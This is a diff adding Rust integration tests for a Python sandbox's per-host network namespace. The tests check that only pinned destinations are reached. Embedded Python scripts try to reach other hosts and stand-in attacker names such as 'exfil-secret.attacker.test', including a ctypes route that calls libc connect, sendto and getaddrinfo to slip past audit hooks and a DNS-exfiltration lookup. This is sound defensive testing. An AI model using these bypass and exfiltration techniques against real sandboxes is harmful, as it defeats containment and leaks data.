@@ -1,0 +1,252 @@
+//! Per-host network: names pysbx pins from the policy's host map, a namespace of the sandbox's
+//! own in which only the pinned destinations exist, and the supervisor relaying them. Hosts on
+//! loopback addresses stand in for the internet: 127.0.0.2 is the allowed host, 127.0.0.3 and
+//! 127.0.0.1 are others. Each listener reports what reaches it, so a refusal is observed from
+//! outside the sandbox, not only by the program's own account.
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::sync::mpsc;
+use std::time::Duration;
+
+use crate::exec_support::{Scratch, run, sandbox_processes, stderr, stdout};
+
+/// A TCP listener that passes on what each connection sent, then answers `pong`.
+fn tcp_host(addr: &str, port: u16) -> Option<mpsc::Receiver<String>> {
+    let listener = TcpListener::bind((addr, port)).ok()?;
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        for conn in listener.incoming() {
+            let Ok(mut conn) = conn else { continue };
+            let mut buf = [0u8; 64];
+            let n = conn.read(&mut buf).unwrap_or(0);
+            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
+            let _ = conn.write_all(b"pong");
+        }
+    });
+    Some(rx)
+}
+
+/// A UDP socket that passes on each datagram and answers `pong` to its sender.
+fn udp_host(addr: &str) -> (u16, mpsc::Receiver<String>) {
+    let sock = UdpSocket::bind((addr, 0)).expect("bind udp");
+    let port = sock.local_addr().expect("addr").port();
+    let (tx, rx) = mpsc::channel();
+    std::thread::spawn(move || {
+        let mut buf = [0u8; 512];
+        while let Ok((n, from)) = sock.recv_from(&mut buf) {
+            let _ = tx.send(String::from_utf8_lossy(&buf[..n]).into_owned());
+            let _ = sock.send_to(b"pong", from);
+        }
+    });
+    (port, rx)
+}
+
+/// One port with a listener on 127.0.0.1, 127.0.0.2 and 127.0.0.3 each.
+fn three_hosts() -> (u16, [mpsc::Receiver<String>; 3]) {
+    for _ in 0..50 {
+        let probe = TcpListener::bind("127.0.0.2:0").expect("bind");
+        let port = probe.local_addr().expect("addr").port();
+        drop(probe);
+        if let (Some(a), Some(b), Some(c)) =
+            (tcp_host("127.0.0.1", port), tcp_host("127.0.0.2", port), tcp_host("127.0.0.3", port))
+        {
+            return (port, [a, b, c]);
+        }
+    }
+    panic!("no port free on the three loopback addresses");
+}
+
+fn policy(s: &Scratch, port: u16, udp_port: u16, ffi: bool) -> std::path::PathBuf {
+    s.write(
+        "p.yaml",
+        &format!(
+            "net:\n  allow: [\"api.test:{port}\", \"localhost:{port}\", \"udp:dns.test:{udp_port}\"]\n\
+             hosts:\n  api.test: [\"127.0.0.2\"]\n  other.test: [\"127.0.0.3\"]\n  dns.test: [\"127.0.0.2\"]\n\
+             ffi: {ffi}\n"
+        ),
+    )
+}
+
+const THROUGH_THE_GUARD: &str = r#"import socket, sys
+port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
+
+def tcp(host):
+    try:
+        with socket.create_connection((host, port), timeout=5) as s:
+            s.sendall(("hello " + host).encode())
+            return "ok " + s.recv(4).decode()
+    except PermissionError:
+        return "refused"
+    except OSError as e:
+        return "error " + type(e).__name__
+
+def udp(host, p):
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+            s.settimeout(5)
+            s.sendto(b"ping " + host.encode(), (host, p))
+            return "ok " + s.recv(4).decode()
+    except PermissionError:
+        return "refused"
+    except OSError as e:
+        return "error " + type(e).__name__
+
+print("allowed name", tcp("api.test"))
+print("allowed address", tcp("127.0.0.2"))
+print("other name", tcp("other.test"))
+print("other address", tcp("127.0.0.3"))
+print("loopback name", tcp("localhost"))
+print("unknown name", tcp("exfil-secret.attacker.test"))
+print("allowed udp", udp("dns.test", udp_port))
+print("other udp", udp("127.0.0.3", other_udp))
+"#;
+
+#[test]
+fn only_pinned_destinations_are_reached() {
+    let (port, [one, two, three]) = three_hosts();
+    let (udp_port, udp_two) = udp_host("127.0.0.2");
+    let (other_udp, udp_three) = udp_host("127.0.0.3");
+    let s = Scratch::new();
+    let p = policy(&s, port, udp_port, false);
+    let main = s.write("main.py", THROUGH_THE_GUARD);
+    let events = s.path().join("events.jsonl");
+    let out = run(s
+        .exec()
+        .arg("--no-gate")
+        .arg("--policy")
+        .arg(&p)
+        .arg("--events")
+        .arg(&events)
+        .arg(&main)
+        .arg("--")
+        .args([port.to_string(), udp_port.to_string(), other_udp.to_string()]));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(
+        stdout(&out),
+        "allowed name ok pong\nallowed address ok pong\nother name refused\nother address refused\n\
+         loopback name error gaierror\nunknown name refused\nallowed udp ok pong\nother udp refused\n",
+        "{}",
+        stderr(&out)
+    );
+    // The machine's resolver said `localhost` is 127.0.0.1; pysbx refused the answer.
+    assert!(
+        stderr(&out).contains("`localhost` resolved to 127.0.0.1, a loopback address; refused"),
+        "{}",
+        stderr(&out)
+    );
+    std::thread::sleep(Duration::from_millis(200));
+    let got: Vec<String> = two.try_iter().collect();
+    assert_eq!(got, vec!["hello api.test".to_string(), "hello 127.0.0.2".to_string()]);
+    assert_eq!(one.try_iter().count(), 0);
+    assert_eq!(three.try_iter().count(), 0);
+    assert_eq!(udp_two.try_iter().collect::<Vec<_>>(), vec!["ping dns.test".to_string()]);
+    assert_eq!(udp_three.try_iter().count(), 0);
+    let text = std::fs::read_to_string(&events).expect("events file");
+    let start: serde_json::Value =
+        serde_json::from_str(text.lines().next().expect("start line")).expect("JSON");
+    let net = &start["tier"]["layers"]["namespace.net"];
+    assert_eq!(net["state"], "applied", "{start}");
+    assert!(net["detail"].as_str().unwrap_or("").contains("relayed by pysbx"), "{net}");
+    assert!(sandbox_processes().is_empty());
+}
+
+/// The same destinations with the guard out of the way: `ctypes` calls the C library's
+/// `connect`, `sendto` and `getaddrinfo` directly, which no audit hook sees. Only the kernel
+/// and the relay stand between the program and the hosts.
+const AROUND_THE_GUARD: &str = r#"import ctypes, errno, socket, struct, sys
+port, udp_port, other_udp = (int(a) for a in sys.argv[1:4])
+libc = ctypes.CDLL(None, use_errno=True)
+
+def sockaddr(ip, p):
+    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", p) + socket.inet_aton(ip) + bytes(8)
+
+def why():
+    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))
+
+def tcp(ip):
+    s = socket.socket()
+    addr = sockaddr(ip, port)
+    if libc.connect(s.fileno(), addr, len(addr)) != 0:
+        return "refused " + why()
+    data = b"raw " + ip.encode()
+    libc.send(s.fileno(), data, len(data), 0)
+    buf = ctypes.create_string_buffer(8)
+    n = libc.recv(s.fileno(), buf, 8, 0)
+    return ("ok " + buf.raw[:n].decode()) if n > 0 else "closed"
+
+def udp(ip, p, data):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    addr = sockaddr(ip, p)
+    n = libc.sendto(s.fileno(), data, len(data), 0, addr, len(addr))
+    return "sent" if n == len(data) else "refused " + why()
+
+class AddrInfo(ctypes.Structure):
+    pass
+AddrInfo._fields_ = [("flags", ctypes.c_int), ("family", ctypes.c_int), ("socktype", ctypes.c_int),
+                     ("protocol", ctypes.c_int), ("addrlen", ctypes.c_uint32),
+                     ("addr", ctypes.c_void_p), ("canonname", ctypes.c_char_p),
+                     ("next", ctypes.POINTER(AddrInfo))]
+
+def lookup(name):
+    res = ctypes.POINTER(AddrInfo)()
+    rc = libc.getaddrinfo(name.encode(), None, None, ctypes.byref(res))
+    return "answered" if rc == 0 else "no answer"
+
+print("allowed", tcp("127.0.0.2"))
+print("other", tcp("127.0.0.3"))
+print("loopback", tcp("127.0.0.1"))
+print("udp to another host", udp("127.0.0.3", other_udp, b"exfil udp"))
+print("udp to another port of the allowed host", udp("127.0.0.2", other_udp, b"exfil port"))
+print("dns exfiltration", lookup("exfil-secret.attacker.test"))
+"#;
+
+#[test]
+fn the_kernel_holds_without_the_guard() {
+    let (port, [one, two, three]) = three_hosts();
+    let (udp_port, udp_two) = udp_host("127.0.0.2");
+    let (other_udp, udp_three) = udp_host("127.0.0.3");
+    let s = Scratch::new();
+    let p = policy(&s, port, udp_port, true);
+    let main = s.write("main.py", AROUND_THE_GUARD);
+    let out = run(s.exec().arg("--no-gate").arg("--policy").arg(&p).arg(&main).arg("--").args([
+        port.to_string(),
+        udp_port.to_string(),
+        other_udp.to_string(),
+    ]));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = stdout(&out);
+    let lines: Vec<&str> = text.lines().collect();
+    assert_eq!(lines.first().copied(), Some("allowed ok pong"), "{text}\n{}", stderr(&out));
+    // Inside the namespace 127.0.0.3 and 127.0.0.1 exist only as the sandbox's own loopback,
+    // where nothing listens on that port.
+    assert_eq!(lines.get(1).copied(), Some("other refused ECONNREFUSED"), "{text}");
+    assert_eq!(lines.get(2).copied(), Some("loopback refused ECONNREFUSED"), "{text}");
+    // A datagram may leave the socket, but nothing carries it out of the namespace.
+    assert!(lines.get(3).is_some_and(|l| l.starts_with("udp to another host ")), "{text}");
+    assert!(lines.get(4).is_some_and(|l| l.starts_with("udp to another port ")), "{text}");
+    assert_eq!(lines.get(5).copied(), Some("dns exfiltration no answer"), "{text}");
+    std::thread::sleep(Duration::from_millis(300));
+    assert_eq!(two.try_iter().collect::<Vec<_>>(), vec!["raw 127.0.0.2".to_string()]);
+    assert_eq!(one.try_iter().count(), 0);
+    assert_eq!(three.try_iter().count(), 0);
+    assert_eq!(udp_two.try_iter().count(), 0);
+    assert_eq!(udp_three.try_iter().count(), 0);
+    assert!(sandbox_processes().is_empty());
+}
+
+#[test]
+fn a_rule_for_any_port_keeps_the_host_network_and_says_so() {
+    let s = Scratch::new();
+    let p = s.write("p.yaml", "net:\n  allow: [\"127.0.0.2:*\"]\n");
+    let events = s.path().join("events.jsonl");
+    let out =
+        run(s.exec().arg("--policy").arg(&p).arg("--events").arg(&events).args(["-c", "pass"]));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = std::fs::read_to_string(&events).expect("events file");
+    let start: serde_json::Value =
+        serde_json::from_str(text.lines().next().expect("start line")).expect("JSON");
+    let net = &start["tier"]["layers"]["namespace.net"];
+    assert_eq!(net["state"], "skipped", "{start}");
+    assert!(net["detail"].as_str().unwrap_or("").contains("any host or any port"), "{net}");
+}
